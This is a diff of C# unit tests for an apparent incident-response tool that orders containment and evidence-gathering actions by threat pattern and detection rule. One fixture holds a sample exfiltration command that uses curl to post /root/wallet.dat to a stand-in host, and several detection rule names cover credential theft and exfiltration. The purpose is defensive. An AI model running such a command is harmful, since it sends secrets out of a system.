@@ -52,7 +52,8 @@ public sealed class ActionOrderTests
         var arranged = ActionOrder.Arrange(
             [Candidate("GET_LOGS"), Candidate("ISOLATE_NETWORK"), Candidate("DELETE_POD"), Candidate("KILL_PROCESS")],
             ThreatPatterns.Match(facts),
-            facts
+            facts,
+            s_knowledge
         );
 
         Types(arranged).ShouldBe(["ISOLATE_NETWORK", "KILL_PROCESS", "GET_LOGS", "DELETE_POD"]);
@@ -74,18 +75,129 @@ public sealed class ActionOrderTests
     {
         var arranged = ActionOrder.Arrange(
             [
-                Candidate("KILL_PROCESS", s_unconfirmed),
-                Candidate("ISOLATE_NETWORK", s_confirmed),
+                Candidate("STOP_CONTAINER", s_confirmed),
+                Candidate("KILL_CONTAINER", s_unconfirmed),
                 Candidate("GET_LOGS", s_unconfirmed),
             ],
             ThreatPatterns.Match(Facts.Miner),
-            Facts.Miner
+            Facts.Miner,
+            s_knowledge
         );
 
-        Types(arranged).ShouldBe(["GET_LOGS", "ISOLATE_NETWORK", "KILL_PROCESS"]);
+        Types(arranged).ShouldBe(["GET_LOGS", "STOP_CONTAINER", "KILL_CONTAINER"]);
         arranged.Reason.Text.ShouldContain(
-            "ISOLATE_NETWORK stands before KILL_PROCESS because its responder is confirmed"
+            "STOP_CONTAINER stands before KILL_CONTAINER because its responder is confirmed"
         );
+        arranged.Places[1].Why.ShouldContain("which achieves the same (the container ends)");
+    }
+
+    [Fact]
+    public void A_confirmed_action_does_not_pass_one_that_achieves_something_else() =>
+        Arrange(
+                Facts.Miner,
+                [
+                    Candidate("ISOLATE_NETWORK", s_confirmed),
+                    Candidate("KILL_PROCESS", s_unconfirmed),
+                    Candidate("ROLLOUT_RESTART", s_confirmed),
+                    Candidate("DELETE_POD", s_unconfirmed),
+                ]
+            )
+            .ShouldBe(["KILL_PROCESS", "ISOLATE_NETWORK", "DELETE_POD", "ROLLOUT_RESTART"]);
+
+    [Fact]
+    public void Equals_change_places_among_themselves_and_nothing_else_moves()
+    {
+        var wanted = new[]
+        {
+            Candidate("KILL_CONTAINER", s_unconfirmed),
+            Candidate("DELETE_POD", s_unconfirmed),
+            Candidate("STOP_CONTAINER", s_confirmed),
+            Candidate("ROLLOUT_RESTART", s_confirmed),
+        };
+        var facts = Facts.Of((FactKeys.EventRule, "Drop and execute new binary in container"));
+
+        Arrange(facts, wanted).ShouldBe(["STOP_CONTAINER", "KILL_CONTAINER", "DELETE_POD", "ROLLOUT_RESTART"]);
+    }
+
+    [Fact]
+    public void What_a_fact_says_will_not_take_stands_behind_the_rest_of_its_kind_and_says_why()
+    {
+        var facts = Facts
+            .Miner.Know(FactKeys.EventRule, "Exfiltrating Artifacts")
+            .Know(FactKeys.PodHostNetwork, "true");
+        var arranged = ActionOrder.Arrange(
+            [Candidate("ISOLATE_NETWORK"), Candidate("KILL_PROCESS"), Candidate("GET_LOGS")],
+            ThreatPatterns.Match(facts),
+            facts,
+            s_knowledge
+        );
+
+        Types(arranged).ShouldBe(["KILL_PROCESS", "ISOLATE_NETWORK", "GET_LOGS"]);
+        var place = arranged.Places[1];
+        place.Why.ShouldContain(
+            "this does not hold: the Pod does not use the node's network (pod.hostNetwork is true)"
+        );
+        place.Citations.ShouldContain(facts.Single(FactKeys.PodHostNetwork)!.Citation);
+    }
+
+    [Fact]
+    public void What_nobody_could_check_is_no_obstacle() =>
+        Arrange(
+                Facts.Of((FactKeys.EventRule, "Exfiltrating Artifacts")),
+                [Candidate("KILL_PROCESS"), Candidate("ISOLATE_NETWORK")]
+            )
+            .ShouldBe(["ISOLATE_NETWORK", "KILL_PROCESS"]);
+
+    [Fact]
+    public void Each_action_says_why_it_stands_where_it_stands_and_cites_it()
+    {
+        var arranged = ActionOrder.Arrange(
+            [Candidate("GET_LOGS"), Candidate("KILL_PROCESS"), Candidate("DELETE_POD"), Unknown("REBOOT_NODE")],
+            ThreatPatterns.Match(Facts.Miner),
+            Facts.Miner,
+            s_knowledge
+        );
+
+        arranged.Places.Select(place => place.Action).ShouldBe(arranged.Ordered.Select(candidate => candidate.Id));
+        arranged
+            .Places[0]
+            .Why.ShouldBe(
+                "it saves evidence, which comes first; the pattern Cryptominer names it as number 1 of its evidence."
+            );
+        arranged.Places[0].Citations.ShouldBe([new Citation("threat pattern", "Patterns/cryptominer.yaml")]);
+        arranged.Places[3].Why.ShouldBe("it is unknown to Quell, and what is unknown is ordered last.");
+    }
+
+    [Theory]
+    [InlineData(
+        "Terminal shell in container",
+        "Not in what was read, so evidence stands first; if commands are being typed right now"
+    )]
+    [InlineData("Unexpected UDP Traffic", "Not in what was read, so evidence stands first; if data is leaving")]
+    [InlineData("Exfiltrating Artifacts", "Yes, rule \"Exfiltrating Artifacts\". Containment stands before evidence")]
+    [InlineData(
+        "Remove Bulk Data from Disk",
+        "Yes, rule \"Remove Bulk Data from Disk\". Containment stands before evidence"
+    )]
+    [InlineData("Our own rule", "Not in what was read, so evidence stands first.")]
+    public void The_trade_between_evidence_and_containment_is_said_in_the_open(string rule, string answer)
+    {
+        var facts = Facts.Of((FactKeys.EventRule, rule));
+
+        ActionOrder
+            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(facts), facts, s_knowledge)
+            .Reason.Text.ShouldContain($"Active exfiltration or destruction seen? {answer}");
+    }
+
+    [Fact]
+    public void A_stolen_secret_turns_the_order_only_where_something_shows_that_it_is_leaving()
+    {
+        var reading = Facts.Of((FactKeys.EventRule, "Search Private Keys or Passwords"));
+        OrderCandidate[] both = [Candidate("GET_LOGS"), Candidate("KILL_PROCESS")];
+
+        Arrange(reading, both).ShouldBe(["GET_LOGS", "KILL_PROCESS"]);
+        Arrange(reading.Know(FactKeys.ProcessCommand, "curl -d @/root/wallet.dat https://x.example"), both)
+            .ShouldBe(["KILL_PROCESS", "GET_LOGS"]);
     }
 
     [Fact]
@@ -109,7 +221,7 @@ public sealed class ActionOrderTests
     public void The_reason_tells_what_was_recognised_and_names_what_was_found()
     {
         var reason = ActionOrder
-            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(Facts.Miner), Facts.Miner)
+            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(Facts.Miner), Facts.Miner, s_knowledge)
             .Reason;
 
         reason.Text.ShouldStartWith("Cryptominer (rule \"Detect crypto miners using the Stratum protocol\"");
@@ -124,9 +236,9 @@ public sealed class ActionOrderTests
         var facts = Facts.Of((FactKeys.EventRule, "Our own rule"));
 
         ActionOrder
-            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(facts), facts)
+            .Arrange([Candidate("GET_LOGS")], ThreatPatterns.Match(facts), facts, s_knowledge)
             .Reason.Text.ShouldStartWith("No known pattern matches: for Our own rule the general order is used");
-        ActionOrder.Arrange([Candidate("GET_LOGS")], [], facts).Reason.Text.ShouldNotBeEmpty();
+        ActionOrder.Arrange([Candidate("GET_LOGS")], [], facts, s_knowledge).Reason.Text.ShouldNotBeEmpty();
     }
 
     [Fact]
@@ -139,8 +251,8 @@ public sealed class ActionOrderTests
                     var shuffled = candidates.OrderBy(candidate => HashCode.Combine(candidate.Id, seed));
                     var turned = matches.Reverse().ToImmutableArray();
 
-                    var one = ActionOrder.Arrange(candidates, matches, facts);
-                    var other = ActionOrder.Arrange(shuffled, turned, facts);
+                    var one = ActionOrder.Arrange(candidates, matches, facts, s_knowledge);
+                    var other = ActionOrder.Arrange(shuffled, turned, facts, s_knowledge);
 
                     one.Ordered.ShouldBe(other.Ordered);
                     one.Reason.Text.ShouldBe(other.Reason.Text);
@@ -156,11 +268,16 @@ public sealed class ActionOrderTests
                 (candidates, facts) =>
                 {
                     var matches = ThreatPatterns.Match(facts);
-                    var flipped = matches.Any(match => match.Pattern.ContainsFirst);
-                    var ordered = ActionOrder.Arrange(candidates, matches, facts).Ordered;
+                    var flipped = matches.Any(match => match.ContainsFirst);
+                    var ordered = ActionOrder.Arrange(candidates, matches, facts, s_knowledge).Ordered;
                     for (var i = 0; i < ordered.Length; i++)
                     {
-                        var contains = ordered[i].Card?.Phase == ActionPhase.Containment;
+                        // A pattern may contain by what is a destruction elsewhere, such as stopping every writer.
+                        var contains =
+                            ordered[i].Card?.Phase == ActionPhase.Containment
+                            || matches.Any(match =>
+                                match.Pattern.Order.Contains((ActionPhase.Containment, ordered[i].Type))
+                            );
                         if (ordered[i].Card is not { IsKnown: true } card || (flipped && contains))
                         {
                             continue;
@@ -172,7 +289,9 @@ public sealed class ActionOrderTests
                                 || later.Card == null
                                 || !later.Card.SavesEvidence.Any(kind => card.EvidenceLost.Contains(kind))
                             )
-                            .ShouldBeTrue();
+                            .ShouldBeTrue(
+                                $"{card.Type} in {string.Join(", ", ordered.Select(each => each.Type))}; {string.Join(", ", matches.Select(match => match.Pattern.Id))}"
+                            );
                     }
                 },
                 iter: 1000
@@ -184,12 +303,53 @@ public sealed class ActionOrderTests
             facts =>
             {
                 var matches = ThreatPatterns.Match(facts);
-                var text = ActionOrder.Arrange([Candidate("GET_LOGS")], matches, facts).Reason.Text;
-                text.Contains("Containment stands before evidence because")
-                    .ShouldBe(matches.Any(m => m.Pattern.ContainsFirst));
+                var text = ActionOrder.Arrange([Candidate("GET_LOGS")], matches, facts, s_knowledge).Reason.Text;
+                text.Contains("Containment stands before evidence because").ShouldBe(matches.Any(m => m.ContainsFirst));
             },
             iter: 300
         );
+
+    [Fact]
+    public void Availability_never_moves_an_action_past_one_that_achieves_something_else() =>
+        Gen.Select(SomeCandidates, SomeFacts)
+            .Sample(
+                (candidates, facts) =>
+                {
+                    var runnable = candidates.Where(c => c.Availability is not Availability.Unavailable).ToList();
+                    var matches = ThreatPatterns.Match(facts);
+                    var leveled = runnable.ConvertAll(c => c with { Availability = s_confirmed });
+
+                    var real = ActionOrder.Arrange(runnable, matches, facts, s_knowledge).Ordered;
+                    var level = ActionOrder.Arrange(leveled, matches, facts, s_knowledge).Ordered;
+
+                    real.Select(Achieves).ShouldBe(level.Select(Achieves));
+                },
+                iter: 1000
+            );
+
+    [Fact]
+    public void Of_two_equals_the_confirmed_is_never_behind() =>
+        Gen.Select(SomeCandidates, SomeFacts)
+            .Sample(
+                (candidates, facts) =>
+                {
+                    var ordered = ActionOrder
+                        .Arrange(candidates, ThreatPatterns.Match(facts), facts, s_knowledge)
+                        .Ordered.Where(c => c.Availability is not Availability.Unavailable)
+                        .ToList();
+                    foreach (var equals in ordered.GroupBy(Achieves, StringComparer.Ordinal))
+                    {
+                        equals
+                            .Select(c => c.Availability is Availability.Confirmed)
+                            .SkipWhile(confirmed => confirmed)
+                            .ShouldAllBe(confirmed => !confirmed);
+                    }
+                },
+                iter: 1000
+            );
+
+    private static string Achieves(OrderCandidate candidate) =>
+        s_knowledge.Achievements.Of(candidate.Type) is { AreEquals: true } equals ? equals.Word : candidate.Type;
 
     private static readonly Gen<FactSheet> SomeFacts =
         from rules in Gen.OneOf(
@@ -200,6 +360,11 @@ public sealed class ActionOrderTests
             "Find AWS Credentials",
             "PTRACE attached to process",
             "Drop and execute new binary in container",
+            "Unexpected UDP Traffic",
+            "Cloudtrail Logging Disabled",
+            "Linux Kernel Module Injection Detected",
+            "Read sensitive file untrusted",
+            "Web Server Spawned Shell",
             "Our own rule"
         ).List[1, 3]
         select FactSheet.Empty.From("event", FactKeys.EventRule, [.. rules]);
@@ -226,7 +391,7 @@ public sealed class ActionOrderTests
         new(new ActionId(type), type, UnknownCard.Of(Catalogue.Of(type, ResponderType.Host)), s_confirmed, "t");
 
     private static string[] Arrange(FactSheet facts, IEnumerable<OrderCandidate> candidates) =>
-        Types(ActionOrder.Arrange(candidates, ThreatPatterns.Match(facts), facts));
+        Types(ActionOrder.Arrange(candidates, ThreatPatterns.Match(facts), facts, s_knowledge));
 
     private static string[] Types(Arrangement arranged) => [.. arranged.Ordered.Select(candidate => candidate.Type)];
 }
